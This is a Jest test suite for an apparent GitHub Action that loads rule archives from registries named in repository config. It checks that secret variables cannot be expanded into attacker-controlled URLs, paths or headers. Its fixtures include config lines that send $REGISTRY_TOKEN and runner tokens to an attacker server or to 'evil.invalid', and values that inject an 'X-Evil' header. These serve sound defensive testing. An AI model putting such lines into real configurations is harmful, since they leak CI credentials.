import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, describe, expect, test } from '@jest/globals';
import { ARCHIVE, type AttackOutcome, Battlefield, messagesOf, repository, sendArchive } from './attack.ts';
import { CANARIES } from './canaries.ts';
import { FORK_PULL_REQUEST } from './events.ts';

const field = new Battlefield();

afterEach(() => field.clear());

/** A repository whose source has these lines, run for a push, its server being the attacker's. */
async function expand(
  settings: (url: string) => string,
  inputs: Record<string, string> = {},
  env: Record<string, string | undefined> = {},
): Promise<AttackOutcome & { requests: number }> {
  const attacker = await field.attacker();
  const files = repository(settings(attacker.url));
  const outcome = await field.run({ files, inputs, env });
  return Object.assign(outcome, { requests: attacker.requests.length });
}

function expectStopped(outcome: AttackOutcome & { requests: number }, message: string): void {
  expect(messagesOf(outcome).join('\n')).toContain(message);
  expect([outcome.status, outcome.requests, outcome.leaks, outcome.strays]).toEqual([1, 0, [], []]);
}

describe('variables in a file of the repository', () => {
  test.each([
    ['url', (url: string) => `url = ${url}/$REGISTRY_TOKEN`],
    ['url', (url: string) => `url = ${url}/\${REGISTRY_TOKEN}/x`],
    ['projectID', (url: string) => `type = gitlab\nurl = ${url}\nprojectID = acme/$REGISTRY_TOKEN`],
    ['groupID', (url: string) => `type = gitlab\nurl = ${url}\ngroupID = $REGISTRY_TOKEN`],
    ['bucket', (url: string) => `type = s3\nbucket = $REGISTRY_TOKEN\nregion = us-east-1\nendpoint = ${url}`],
    ['prefix', (url: string) => `type = s3\nbucket = abc\nprefix = $REGISTRY_TOKEN\nendpoint = ${url}`],
    ['region', (url: string) => `type = s3\nbucket = abc\nregion = $REGISTRY_TOKEN\nendpoint = ${url}`],
    ['endpoint', (url: string) => `type = s3\nbucket = abc\nendpoint = ${url}/$REGISTRY_TOKEN`],
    ['path', () => 'type = filesystem\npath = ./$REGISTRY_TOKEN'],
    ['type', (url: string) => `type = $REGISTRY_TOKEN\nurl = ${url}`],
    ['timeout', (url: string) => `url = ${url}\ntimeout = $REGISTRY_TOKEN`],
    ['concurrency', (url: string) => `url = ${url}\nconcurrency = $REGISTRY_TOKEN`],
  ])('are not expanded in %p unless allow-env lists them', async (key, settings) => {
    const outcome = await expand(settings);
    expectStopped(
      outcome,
      'the variable REGISTRY_TOKEN may be used here only when the input allow-env lists it',
    );
    expect(outcome.log).toContain(key);
  });

  test('are not expanded in the location of the cache', async () => {
    const attacker = await field.attacker();
    const files = repository(`url = ${attacker.url}`);
    files['.armrc'] += '[cache]\nlocation = ./$REGISTRY_TOKEN\n';
    const outcome = await field.run({ files });
    expectStopped(Object.assign(outcome, { requests: attacker.requests.length }), 'REGISTRY_TOKEN');
  });

  test.each(['ACTIONS_RUNTIME_TOKEN', 'ACTIONS_ID_TOKEN_REQUEST_TOKEN', 'INPUT_SECRET'])(
    'never are %s, whatever allow-env says',
    async (name) => {
      for (const key of ['authToken', 'url']) {
        const settings = (url: string) =>
          key === 'url' ? `url = ${url}/$${name}` : `url = ${url}\nauthToken = $${name}`;
        const outcome = await expand(settings, { 'allow-env': '*', 'allow-hosts': '127.0.0.1' });
        expectStopped(outcome, `the variable ${name} may not be used, no ACTIONS_* or INPUT_* variable may`);
      }
    },
  );

  test("cannot be the runner's own in another letter case", async () => {
    for (const name of ['Actions_Runtime_Token', 'input_secret', 'github_token', 'Runner_Temp']) {
      const outcome = await expand(
        (url) => `url = ${url}\nauthToken = $${name}`,
        {},
        { [name]: CANARIES.REGISTRY_TOKEN },
      );
      expectStopped(outcome, `the variable ${name} may`);
    }
  });

  test('cannot be GITHUB_TOKEN unless allow-env lists it', async () => {
    expectStopped(await expand((url) => `url = ${url}\nauthToken = $GITHUB_TOKEN`), 'GITHUB_TOKEN');
  });

  test('are limited to what allow-env lists as soon as it lists anything', async () => {
    const outcome = await expand((url) => `url = ${url}\nauthToken = $REGISTRY_TOKEN`, {
      'allow-env': 'OTHER_*',
    });
    expectStopped(outcome, 'the variable REGISTRY_TOKEN is not listed in the input allow-env');
  });

  test('are expanded once: what a value says is text', async () => {
    const registry = await field.registry({ authorization: 'Bearer $REGISTRY_TOKEN' });
    const files = repository(`url = ${registry.url}\nauthToken = \${INDIRECT}`);
    const outcome = await field.run({ files, env: { INDIRECT: '$REGISTRY_TOKEN' } });
    expect([outcome.status, outcome.leaks, outcome.strays]).toEqual([0, [], []]);
    const seen = registry.requests.map(({ headers }) => headers.authorization);
    expect(new Set(seen)).toEqual(new Set(['Bearer $REGISTRY_TOKEN']));
  });

  test('give a dollar sign where there are two', async () => {
    const registry = await field.registry({ authorization: 'Bearer pa$REGISTRY_TOKEN' });
    const outcome = await field.run({
      files: repository(`url = ${registry.url}\nauthToken = pa$$REGISTRY_TOKEN`),
    });
    expect([outcome.status, outcome.leaks]).toEqual([0, []]);
  });

  test('that are not set or empty stop the run, with the hint that forks get no secrets', async () => {
    for (const [env, state] of [
      [{ REGISTRY_TOKEN: undefined }, 'not set'],
      [{ REGISTRY_TOKEN: '' }, 'empty'],
    ] as const) {
      const outcome = await expand((url) => `url = ${url}\nauthToken = $REGISTRY_TOKEN`, {}, env);
      expectStopped(outcome, `the variable REGISTRY_TOKEN is ${state}`);
      expect(outcome.report.error?.hint).toContain('forks get no secrets');
    }
  });

  test('with control characters are refused, and no line of them is shown', async () => {
    const outcome = await expand((url) => `url = ${url}\nauthToken = $DEPLOY_KEY`);
    expectStopped(outcome, 'the value of the variable DEPLOY_KEY has control characters');
  });

  test.each(['\r', '\u0085', '\u2028', '\u0000'.replace('\0', '\u007f')])(
    'with %j in them cannot add a header',
    async (separator) => {
      const value = `${CANARIES.REGISTRY_TOKEN}${separator}X-Evil: 1`;
      const outcome = await expand((url) => `url = ${url}\nauthToken = $ODD`, {}, { ODD: value });
      expectStopped(outcome, 'the value of the variable ODD has control characters');
    },
  );

  test('are no business of a source that the run does not use', async () => {
    const registry = await field.registry();
    const files = repository(`url = ${registry.url}`);
    files['.armrc'] += `[sources.other]\nurl = https://evil.invalid/$REGISTRY_TOKEN\nauthToken = $NOT_SET\n`;
    const outcome = await field.run({ files, event: FORK_PULL_REQUEST });
    expect([outcome.status, outcome.leaks, outcome.strays]).toEqual([0, [], []]);
  });

  test('show nothing of their value when it has not the form that is needed', async () => {
    const outcome = await expand((url) => `url = ${url}\nconcurrency = $REGISTRY_TOKEN`, {
      'allow-env': 'REGISTRY_TOKEN',
    });
    expectStopped(outcome, 'the value of its variables is not a whole number from 1 to 100');
  });
});

describe('an address with variables', () => {
  const BY_NAME: [string, string, string][] = [
    ['http', `url = http://127.0.0.1:\${PORT}/$REGISTRY_TOKEN/`, `http://127.0.0.1:\${PORT}/$REGISTRY_TOKEN`],
    [
      'gitlab',
      'type = gitlab\nprojectID = 7\nurl = http://$COMPANY_TOKEN:$PORT',
      'http://$COMPANY_TOKEN:$PORT',
    ],
    [
      's3',
      `type = s3\nbucket = abc\nprefix = a/$REGISTRY_TOKEN\nendpoint = http://127.0.0.1:$PORT/\${REGISTRY_TOKEN}`,
      's3://abc/a/$REGISTRY_TOKEN',
    ],
    ['s3', 'url = s3://abc/$REGISTRY_TOKEN\nendpoint = http://127.0.0.1:$PORT', 's3://abc/$REGISTRY_TOKEN'],
    ['filesystem', `path = ./\${REGISTRY_TOKEN}`, `./\${REGISTRY_TOKEN}`],
  ];

  test.each(BY_NAME)('of type %s stands as it is written: %s', async (type, settings, written) => {
    const server = await field.legitimate(sendArchive);
    let folder = '';
    const outcome = await field.run({
      files: {
        ...repository(settings),
        [`${CANARIES.REGISTRY_TOKEN}/rules/1.0.0/rules-1.0.0.tar.gz`]: '',
      },
      inputs: { 'allow-env': 'PORT,*_TOKEN' },
      env: { PORT: new URL(server.url).port, COMPANY_TOKEN: 'localhost' },
      prepare: ({ workspace }) => {
        folder = workspace;
        if (type !== 'filesystem') return;
        writeFileSync(join(workspace, CANARIES.REGISTRY_TOKEN, 'rules/1.0.0/rules-1.0.0.tar.gz'), ARCHIVE);
      },
    });
    expect([outcome.status, outcome.leaks]).toEqual([0, []]);
    expect(outcome.report.sources[0]?.url).toBe(written);
    expect(JSON.parse(readFileSync(join(folder, 'rules.lock'), 'utf8')).dependencies.rules.source).toBe(
      written,
    );
  });

  test.each([
    [
      `url = http://127.0.0.1:\${PORT}/a/$REGISTRY_TOKEN`,
      `"http://127.0.0.1:\${PORT}/a/$REGISTRY_TOKEN/rules/1.0.0.tar.gz"`,
    ],
    [`path = ./\${REGISTRY_TOKEN}`, `"./\${REGISTRY_TOKEN}/rules/1.0.0/rules-1.0.0.tar.gz"`],
  ])('stands so in messages: %s', async (settings, shown) => {
    const server = await field.legitimate((_, response) => void response.writeHead(404).end());
    const outcome = await field.run({
      files: { ...repository(settings), [`${CANARIES.REGISTRY_TOKEN}/x`]: '' },
      inputs: { 'allow-env': 'PORT,REGISTRY_TOKEN' },
      env: { PORT: new URL(server.url).port },
    });
    expect([outcome.status, outcome.leaks]).toEqual([1, []]);
    expect(messagesOf(outcome).join()).toContain(shown);
    expect(outcome.log).toContain(shown);
    expect(outcome.summary).toContain('REGISTRY_TOKEN');
  });

  test.each(['timeout', 'prefix', 'endpoint'])('a value in %s is masked', async (key) => {
    const files = repository(`type = s3\nbucket = abc\nregion = us-east-1\n${key} = $REGISTRY_TOKEN`);
    const outcome = await field.run({ files, inputs: { 'allow-env': 'REGISTRY_TOKEN' } });
    expect(outcome.stdout).toContain(`::add-mask::${CANARIES.REGISTRY_TOKEN}`);
    expect(outcome.leaks).toEqual([]);
  });
});
